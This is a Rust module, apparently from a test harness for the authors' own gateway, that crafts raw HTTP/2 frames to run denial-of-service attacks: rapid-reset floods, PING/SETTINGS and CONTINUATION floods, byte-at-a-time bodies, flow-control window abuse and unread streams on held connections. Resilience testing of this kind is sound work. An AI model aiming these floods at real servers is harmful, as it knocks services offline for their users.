//! Attacks on HTTP/2: floods of frames that bring nothing or take back what was asked for, requests in
//! pieces, windows that are shut, opened by a byte and taken away, many streams that nobody reads. A gateway
//! without TLS speaks no HTTP/2; there they are requests that it cannot read.
//!
//! Not for what a request gets, which does not depend on how it came: all the others ask by HTTP/1.1.

use std::io::{ErrorKind, Read as _, Write as _};
use std::time::Duration;

use anyhow::Result;
use cluster::http::Wire;

use super::hand::{Blow, Hand};

/// Connections that one attacker keeps.
const KEPT: usize = 4;

/// Requests of a connection at a time: a hundred are not refused, but each of them is a stream that hears the
/// noise of others, and there are to be other attacks.
const REQUESTS: u32 = 20;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The fields of a request as HPACK has them without table or code (RFC 7541 §6.2.2); each is short.
fn head(method: &str, path: &str) -> Vec<u8> {
    let fields = [
        (":method", method),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", path),
        ("content-type", "application/json"),
    ];
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap_or(0)][..], text.as_bytes()].concat();
    fields.iter().flat_map(|(name, value)| [vec![0], text(name), text(value)].concat()).collect()
}

/// The number of a connection's request.
fn id(number: u32) -> u32 {
    2 * number + 1
}

fn ask(number: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, id(number), &head("GET", path))
}

fn set_window(bytes: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[&[0, 4][..], &bytes.to_be_bytes()].concat())
}

fn grant(stream: u32, bytes: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &bytes.to_be_bytes())
}

/// What a client says first, with this window for each stream.
fn hello(window: u32) -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), set_window(window), grant(0, 1 << 30)].concat()
}

/// Sends it all; false: the gateway has closed, or takes no more.
fn send(wire: &mut Wire, bytes: &[u8]) -> bool {
    bytes.chunks(8 << 10).all(|part| wire.write_all(part).and_then(|()| wire.flush()).is_ok())
}

/// Whether the gateway has begun to speak HTTP/2; without TLS, whether it has closed, as it does then.
fn is_heard(wire: &mut Wire) -> bool {
    let is_plain = wire.tls().is_none();
    match wire.read(&mut [0; 4096]) {
        Ok(0) => is_plain,
        Ok(_) => true,
        Err(error) => is_plain && error.kind() == ErrorKind::ConnectionReset,
    }
}

/// Sends what makes up a flood: the gateway may read it, or close. Both are effects, as long as it had been
/// read before.
fn flood(wire: &mut Wire, bytes: &[u8], count: u32) -> Result<Blow> {
    if !(send(wire, &hello(1 << 20)) && is_heard(wire)) {
        return Ok(Blow::Refused("nothing is said".to_owned()));
    }
    wire.socket().set_write_timeout(Some(Duration::from_secs(1)))?;
    wire.socket().set_read_timeout(Some(Duration::from_millis(300)))?;
    send(wire, bytes);
    let _ = wire.read(&mut [0; 4096]);
    Ok(Blow::Struck(count.into()))
}

/// Requests that are taken back at once, by us or by what makes the gateway reset them.
pub(super) fn reset(hand: &mut Hand) -> Result<Blow> {
    let count = hand.any_size(500);
    let path = ["/healthz", "/api/say/info", "/api/big?n=100000"][hand.rng.usize(0..3)];
    let by_us = hand.rng.bool();
    let one = |number| {
        let fault =
            if by_us { frame(RST_STREAM, 0, id(number), &[0, 0, 0, 8]) } else { grant(id(number), 0) };
        [ask(number, path), fault].concat()
    };
    let bytes: Vec<u8> = (0..count).flat_map(one).collect();
    flood(&mut hand.connect_by_http2()?, &bytes, count)
}

/// Frames that cost the gateway more than they cost us.
pub(super) fn send_nothing(hand: &mut Hand) -> Result<Blow> {
    let count = hand.any_size(5_000);
    let one = match hand.rng.u32(0..6) {
        0 => frame(PING, 0, 0, &[0; 8]),
        1 => frame(SETTINGS, 0, 0, &[]),
        2 => [set_window(0), set_window(0x7fff_ffff)].concat(),
        3 => grant(0, 1),
        4 => frame(99, 0, 0, b"x"),
        _ => frame(RST_STREAM, 0, 1, &[0, 0, 0, 8]),
    };
    let bytes = [ask(0, "/api/say/info"), one.repeat(count as usize)].concat();
    flood(&mut hand.connect_by_http2()?, &bytes, count)
}

/// Heads without end, and bodies a byte at a time, on many streams of a connection that is kept.
pub(super) fn trickle(hand: &mut Hand) -> Result<Blow> {
    let mut wire = hand.connect_by_http2()?;
    let count = hand.any_size(REQUESTS);
    let mut bytes = Vec::new();
    if hand.rng.bool() {
        bytes.extend(frame(HEADERS, 0, 1, &head("GET", "/healthz")));
        let piece = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
        bytes.extend(frame(CONTINUATION, 0, 1, &piece).repeat(count as usize));
    } else {
        for number in 0..count {
            bytes.extend(frame(HEADERS, END_HEADERS, id(number), &head("POST", "/api/deep")));
            bytes.extend(frame(DATA, 0, id(number), b"{"));
        }
    }
    let blow = flood(&mut wire, &bytes, count)?;
    let time = Duration::from_millis(hand.rng.u64(500..12_000));
    hand.hold(wire, time, KEPT);
    Ok(blow)
}

/// Asks for streams and large answers, and opens windows by a few bytes, or takes them away while something
/// is on its way.
pub(super) fn open_narrowly(hand: &mut Hand) -> Result<Blow> {
    let mut wire = hand.connect_by_http2()?;
    let window = hand.any_size(60_000);
    let count = hand.any_size(REQUESTS);
    let mut bytes = hello(window);
    for number in 0..count {
        let path = ["/api/mallory/noise/info?topic=noise", "/api/big?n=300000"][hand.rng.usize(0..2)];
        bytes.extend(ask(number, path));
    }
    let mut is_open = send(&mut wire, &bytes) && is_heard(&mut wire);
    let mut struck = u64::from(is_open);
    wire.socket().set_read_timeout(Some(Duration::from_millis(50)))?;
    for _ in 0..10 {
        is_open = is_open
            && match wire.read(&mut [0; 4096]) {
                Ok(0) => false,
                Ok(_) => {
                    struck += 1;
                    true
                }
                Err(error) => matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut),
            };
        let some = hand.any_size(1_000);
        let more = match hand.rng.u32(0..3) {
            0 => set_window(0),
            1 => set_window(window),
            _ => (0..count).flat_map(|number| grant(id(number), some)).collect(),
        };
        is_open = is_open && send(&mut wire, &more);
    }
    let time = Duration::from_millis(hand.rng.u64(500..12_000));
    hand.hold(wire, time, KEPT);
    Ok(if struck > 0 { Blow::Struck(struck) } else { Blow::Refused("nothing came".to_owned()) })
}

/// Streams with all the room that they may have, on a socket that nobody reads.
pub(super) fn leave_unread(hand: &mut Hand) -> Result<Blow> {
    let mut wire = hand.connect_narrowly_by_http2()?;
    let mut bytes = hello(0x7fff_ffff);
    (0..REQUESTS).for_each(|number| bytes.extend(ask(number, "/api/mallory/noise/info?topic=noise")));
    let is_heard = send(&mut wire, &bytes) && is_heard(&mut wire);
    let time = Duration::from_millis(hand.rng.u64(1_000..15_000));
    hand.hold(wire, time, KEPT);
    Ok(if is_heard { Blow::Struck(REQUESTS.into()) } else { Blow::Refused("nothing is said".to_owned()) })
}
